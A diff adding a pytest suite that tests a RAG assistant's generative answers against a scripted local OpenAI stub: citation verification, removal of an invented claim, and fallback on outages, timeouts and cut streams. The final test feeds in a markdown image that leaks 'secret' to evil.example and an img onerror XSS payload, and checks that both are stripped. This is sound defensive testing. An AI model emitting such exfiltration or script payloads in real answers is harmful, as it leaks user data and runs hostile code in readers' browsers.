@@ -1,0 +1,171 @@
+"""Generated answers end to end: the real `openai` client over real HTTP to a scripted
+OpenAI-compatible server on 127.0.0.1, verified sentence by sentence."""
+
+from __future__ import annotations
+
+import re
+import time
+from collections.abc import Iterator
+
+import pytest
+
+from rag import Answer, Assistant, Settings
+from rag.embeddings import MiniLMEmbedder
+from tests.conftest import SEED
+from tests.openai_stub import ScriptedOpenAI
+
+TRUE = "More than 100,000 Armenians left Nagorno-Karabakh"
+INVENTED = "Russia paid $2 billion for the mission"
+
+
+@pytest.fixture
+def server() -> Iterator[ScriptedOpenAI]:
+    with ScriptedOpenAI() as stub:
+        yield stub
+
+
+@pytest.fixture
+def generative(server: ScriptedOpenAI, tmp_path, embedder: MiniLMEmbedder) -> Assistant:
+    settings = Settings(home=tmp_path / "home", llm="openai", openai_base_url=server.base_url,
+                        llm_timeout=3.0, llm_retries=1)
+    assistant = Assistant(settings=settings, embedder=embedder)
+    assistant.ingest(SEED)
+    return assistant
+
+
+def source_number(server: ScriptedOpenAI, request: dict, needle: str) -> int:
+    prompt = request["messages"][-1]["content"]
+    for number, body in re.findall(r'<source id="(\d+)"[^>]*>(.*?)</source>', prompt, re.S):
+        if needle in body:
+            return int(number)
+    raise AssertionError(f"{needle!r} is in no source")
+
+
+def assert_exact(assistant: Assistant, answer: Answer) -> None:
+    for citation in answer.citations:
+        assert assistant.document(citation.doc_id).text[citation.start : citation.end] == \
+            citation.quote
+
+
+def test_invented_sentence_is_removed_and_true_one_cited(generative: Assistant,
+                                                         server: ScriptedOpenAI) -> None:
+    def reply(request: dict) -> str:
+        k = source_number(server, request, "100,000 Armenians")
+        return f"{TRUE} [{k}]. {INVENTED} [{k}]."
+
+    server.script(responder=reply)
+    answer = generative.ask("Why did the peacekeepers leave?")
+    assert answer.mode == "generative"
+    assert TRUE in answer.text and "2 billion" not in answer.text
+    assert [s.supported for s in answer.sentences] == [True, False]
+    (citation,) = answer.citations
+    assert "100,000 Armenians" in citation.quote
+    assert citation.quote.startswith("Russian peacekeepers’ continued presence")
+    assert_exact(generative, answer)
+
+
+def test_keep_unsupported_marks_instead_of_removing(server: ScriptedOpenAI, tmp_path,
+                                                    embedder: MiniLMEmbedder) -> None:
+    settings = Settings(home=tmp_path / "h", llm="openai", openai_base_url=server.base_url,
+                        keep_unsupported=True)
+    assistant = Assistant(settings=settings, embedder=embedder)
+    assistant.ingest(SEED)
+    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}]. "
+                                      f"{INVENTED} [1].")
+    answer = assistant.ask("Why did the peacekeepers leave?")
+    assert "(unsupported) Russia paid $2 billion" in answer.text
+
+
+def test_out_of_range_markers_are_dropped(generative: Assistant, server: ScriptedOpenAI) -> None:
+    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}][99].")
+    answer = generative.ask("Why did the peacekeepers leave?")
+    assert answer.mode == "generative"
+    assert len(answer.citations) == 1 and "[99]" not in answer.text
+    assert_exact(generative, answer)
+
+
+def test_no_markers_at_all_falls_back(generative: Assistant, server: ScriptedOpenAI) -> None:
+    server.script(reply=f"{TRUE}. {INVENTED}.")
+    answer = generative.ask("Why did the peacekeepers leave?")
+    assert answer.mode == "extractive-fallback"
+    assert "supported" in (answer.reason or "")
+    assert "2 billion" not in answer.text
+    assert_exact(generative, answer)
+
+
+def test_refusal_text_is_a_refusal(generative: Assistant, server: ScriptedOpenAI) -> None:
+    server.script(reply="The sources don't say.")
+    answer = generative.ask("What did China say about the withdrawal?")
+    assert answer.refused and answer.mode == "generative"
+    assert answer.citations == [] and answer.passages
+
+
+def test_cut_stream_is_never_a_complete_answer(generative: Assistant,
+                                               server: ScriptedOpenAI) -> None:
+    server.script(reply=f"{TRUE} [1]. More words follow here.", cut_stream_after=2)
+    events = list(generative.ask_stream("Why did the peacekeepers leave?"))
+    deltas = [e for e in events if isinstance(e, str)]
+    final = events[-1]
+    assert isinstance(final, Answer)
+    assert deltas  # the partial text was streamed…
+    assert final.mode == "extractive-fallback"  # …but the answer is the verified fallback
+    assert "cut" in (final.reason or "") or "ended" in (final.reason or "")
+
+
+def test_streaming_yields_deltas_then_verified_answer(generative: Assistant,
+                                                      server: ScriptedOpenAI) -> None:
+    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}].")
+    events = list(generative.ask_stream("Why did the peacekeepers leave?"))
+    assert isinstance(events[-1], Answer) and events[-1].mode == "generative"
+    assert "".join(e for e in events if isinstance(e, str)).startswith("More than")
+
+
+def test_endpoint_down_falls_back_within_timeout(tmp_path, embedder: MiniLMEmbedder) -> None:
+    with ScriptedOpenAI() as stub:
+        dead = stub.base_url  # closed when the block ends: nothing listens there any more
+    settings = Settings(home=tmp_path / "h", llm="openai", openai_base_url=dead,
+                        llm_timeout=2.0, llm_retries=1)
+    assistant = Assistant(settings=settings, embedder=embedder)
+    assistant.ingest(SEED)
+    started = time.perf_counter()
+    answer = assistant.ask("Why did the peacekeepers leave?")
+    assert time.perf_counter() - started < 5
+    assert answer.mode == "extractive-fallback" and answer.reason
+    assert "100,000" in answer.text
+
+
+@pytest.mark.parametrize("behaviour", [{"status": 500}, {"status": 429, "retry_after": 30},
+                                       {"delay": 5.0}, {"malformed": True}])
+def test_failures_end_in_extractive_fallback(generative: Assistant, server: ScriptedOpenAI,
+                                             behaviour: dict) -> None:
+    server.script(**behaviour)
+    answer = generative.ask("Why did the peacekeepers leave?")
+    assert answer.mode == "extractive-fallback" and answer.reason
+    assert_exact(generative, answer)
+
+
+def test_follow_up_is_rewritten_by_the_llm(generative: Assistant, server: ScriptedOpenAI) -> None:
+    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}].")
+    first = generative.ask("Why did the peacekeepers leave?")
+    server.script(reply="Who made the decision on the early withdrawal of Russian peacekeepers?")
+    server.script(responder=lambda r: "The leaders of both countries decided "
+                                      f"[{source_number(server, r, 'leaders of both')}].")
+    answer = generative.chat("and who decided that?", [first])
+    assert answer.question.startswith("Who made the decision")
+    assert answer.mode == "generative"
+    assert any("leaders of both countries" in c.quote for c in answer.citations)
+
+
+def test_offline_follow_up_rewrite(seed_assistant: Assistant) -> None:
+    first = seed_assistant.ask("Why did the peacekeepers leave?")
+    answer = seed_assistant.chat("and who decided that?", [first])
+    assert not answer.refused
+    assert any("leaders of both countries" in c.quote for c in answer.citations)
+
+
+def test_injected_markdown_and_html_never_reach_the_answer(generative: Assistant,
+                                                           server: ScriptedOpenAI) -> None:
+    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}]. "
+                  "![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>")
+    answer = generative.ask("Why did the peacekeepers leave?")
+    assert "evil.example" not in answer.text and "<img" not in answer.text
